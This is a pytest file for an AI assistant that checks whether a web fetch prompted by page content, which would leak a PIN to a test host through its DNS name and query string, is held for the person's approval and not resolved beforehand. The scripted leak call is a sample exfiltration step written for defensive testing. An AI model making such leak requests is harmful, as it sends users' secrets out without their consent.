"""A page that orders a fetch of a URL carrying data out: through the graph, the fetch waits for
the person's Approve (or becomes a proposal when nobody is present), and the DNS name it
would leak through is not looked up before that decision."""

from __future__ import annotations

import pytest
from langchain_core.messages import ToolMessage

from panager import app as app_module
from panager.agent.turns.threads import thread_values
from panager.services.web.fetch import WebFetcher
from panager.services.web.guard import AddressGuard
from tests.fakes.scripted_model import ScriptedChatModel, call
from tests.fakes.web_server import PUBLIC_IP, FakeDNS, FakeSite, RecordingDialer

pytestmark = pytest.mark.timeout(90)

LEAK_HOST = "pin-4821.leak.test"


@pytest.fixture
async def web(monkeypatch):
    """web_fetch behind the guard with an injected resolver; both names reach the local site."""
    async with FakeSite() as site:
        dns = FakeDNS({"public.test": [PUBLIC_IP], LEAK_HOST: [PUBLIC_IP]})
        dial = RecordingDialer({PUBLIC_IP: site.port})
        fetcher = WebFetcher(AddressGuard(dns), dial=dial)
        monkeypatch.setattr(app_module, "_web_services", lambda config: (fetcher, None))
        yield site, dns


def script(site) -> tuple[str, list]:
    """The person's request, and a model that reads the page, then fetches the leak URL."""
    page = f"http://public.test:{site.port}/article"
    leak = f"http://{LEAK_HOST}:{site.port}/plain?pin=4821"
    return f"summarise {page}", [call("web_fetch", {"url": page}), call("web_fetch", {"url": leak})]


async def test_a_fetch_built_from_a_page_waits_for_approve(make_app, web):
    site, dns = web
    text, steps = script(site)
    model = ScriptedChatModel(script=steps)
    app = await make_app(model=model)
    user = await app.local_user()
    asked = await app.assistant.run_turn(user, text)
    q = asked.question
    assert q is not None and asked.tainted and [c.tool for c in q.calls] == ["web_fetch"]
    assert LEAK_HOST in q.calls[0].description and "host name included" in q.calls[0].description
    assert dns.calls == ["public.test"]  # the leaking name was not looked up
    assert site.paths() == ["/article"]
    model.add("I did not open it.")
    denied = await app.assistant.answer(user, q.key, {q.calls[0].id: "deny"})
    assert denied.ok and denied.question is None
    assert dns.calls == ["public.test"] and site.paths() == ["/article"]
    # asked again and approved: only now is the name resolved and the page fetched
    model.add(steps[1], "Done.")
    again = await app.assistant.run_turn(user, "go on")
    assert again.question is not None and dns.calls == ["public.test"]
    approved = await app.assistant.answer(
        user, again.question.key, {again.question.calls[0].id: "approve"}
    )
    assert approved.ok and approved.text == "Done."
    assert dns.calls == ["public.test", LEAK_HOST] and site.paths() == ["/article", "/plain"]


async def test_nobody_present_the_fetch_is_held_not_made(make_app, web):
    site, dns = web
    text, steps = script(site)
    model = ScriptedChatModel(script=[*steps, "Summary written."])
    app = await make_app(model=model)
    user = await app.local_user()
    result = await app.assistant.run_turn(user, text, is_system_trigger=True)
    assert result.ok and result.question is None
    assert [p.tool for p in result.proposals] == ["web_fetch"]
    assert dns.calls == ["public.test"] and site.paths() == ["/article"]
    held = [
        m
        for m in (await thread_values(app.assistant, user))["messages"]
        if isinstance(m, ToolMessage)
    ]
    assert held[-1].content.startswith("Not run")
